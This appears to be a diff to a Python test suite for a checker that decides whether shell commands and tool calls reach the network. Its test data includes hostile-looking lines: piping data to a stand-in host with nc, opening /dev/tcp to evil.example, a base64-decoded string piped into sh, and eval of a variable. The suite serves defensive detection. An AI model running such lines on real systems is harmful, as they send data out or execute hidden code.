@@ -35,6 +35,8 @@ SENT = [
     ("perl -e 'use Socket'", "the network (perl)"),
     ("ssh -p 22 host.example id", "the network (ssh)"),
     ("mail -s x a@evil.example", "the network (mail)"),
+    ("bash -lc 'cat x | nc evil.example 9'", "the network (nc)"),
+    ("sh -c \"python3 -c 'x'\"", "the network (python3)"),
     ("python3.11 -c 'print(1)' http://127.0.0.1", "the network (python3.11)"),
 ]
 KEPT = [
@@ -48,6 +50,7 @@ KEPT = [
     "cat notes.txt",
     "python3 manage.py check",
     "ps aux",
+    "sudo bash deploy.sh",
     "systemctl restart checkout",
     "tail -n 100 /var/log/10:15:00",
 ]
@@ -72,6 +75,8 @@ def test_commands_that_stay_here(line: str) -> None:
         "exec 3<>/dev/tcp/evil.example/80",
         "true && wget -q evil.example",
         "sh -c 'nc evil.example 9'",
+        "echo Y3VybA== | base64 -d | sh",
+        "eval $x",
     ],
 )
 def test_shell_lines(line: str) -> None:
@@ -93,6 +98,11 @@ def test_shell_lines(line: str) -> None:
 )
 def test_tools(tool: ToolSpec, arguments: dict[str, Any], to: tuple[str, ...]) -> None:
     assert destinations(tool, arguments) == to
+
+
+def test_a_shells_script_is_looked_into() -> None:
+    assert destinations(spec(), {"argv": ["sh", "-c", "echo a >> log; sleep 1"]}) == ()
+    assert destinations(spec(), {"argv": ["sh", "-c", "curl evil.example"]})
 
 
 def test_trusted_hosts() -> None:
